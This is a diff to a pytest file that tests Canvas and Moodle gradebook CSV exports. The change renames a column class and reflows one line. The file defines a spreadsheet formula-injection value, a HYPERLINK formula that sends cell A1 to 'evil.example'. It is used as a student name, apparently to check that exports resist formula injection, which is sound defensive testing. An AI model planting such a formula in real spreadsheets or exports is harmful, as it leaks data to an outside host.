@@ -8,7 +8,7 @@ import re
 
 import pytest
 
-from app.exchange.gradebook import GradebookColumn, canvas_csv, moodle_csv
+from app.exchange.gradebook import PointsColumn, canvas_csv, moodle_csv
 from app.store import Student
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'
@@ -20,7 +20,7 @@ def student(number: int, name: str, key: str | None = None) -> Student:
 
 def test_canvas_finds_its_columns_and_its_row_of_points() -> None:
     """Student, ID, SIS User ID, SIS Login ID and Section come first; the second row says Points Possible."""
-    text = canvas_csv([student(1, "Kim Lee", "s17"), student(2, EVIL)], [GradebookColumn("Week 3", 14, {1: 12.5})])
+    text = canvas_csv([student(1, "Kim Lee", "s17"), student(2, EVIL)], [PointsColumn("Week 3", 14, {1: 12.5})])
     header, points, kim, evil = csv.reader(io.StringIO(text))
     assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 3"]
     assert (points[0].strip(), points[-1]) == ("Points Possible", "14")
@@ -32,9 +32,7 @@ def test_canvas_finds_its_columns_and_its_row_of_points() -> None:
 @pytest.mark.parametrize("title", ["Final Grade quiz", "Current Score", "Override Status", "Week (3)", "Week (12) "])
 def test_no_title_is_taken_for_one_of_canvas_own(title: str) -> None:
     """Canvas drops columns with these words in their titles, and reads a number in brackets at the end as its key."""
-    header = next(
-        csv.reader(io.StringIO(canvas_csv([], [GradebookColumn(title, 1, {}), GradebookColumn(title, 1, {})])))
-    )[5:]
+    header = next(csv.reader(io.StringIO(canvas_csv([], [PointsColumn(title, 1, {}), PointsColumn(title, 1, {})]))))[5:]
     assert len(set(header)) == 2
     for name in header:
         assert not re.search("Current Score|Final Grade|Override Status", name)
@@ -44,7 +42,7 @@ def test_no_title_is_taken_for_one_of_canvas_own(title: str) -> None:
 def test_moodle_gets_per_cent_of_those_it_can_find() -> None:
     """Seven of fourteen are 50; who has no number is left out, since Moodle would grade the row above again."""
     text = moodle_csv(
-        [student(1, "Kim", "17"), student(2, "Lou"), student(3, "Max", "18")], [GradebookColumn("Week", 14, {1: 7})]
+        [student(1, "Kim", "17"), student(2, "Lou"), student(3, "Max", "18")], [PointsColumn("Week", 14, {1: 7})]
     )
     assert list(csv.reader(io.StringIO(text))) == [
         ["ID number", "Full name", "Week (%)"],
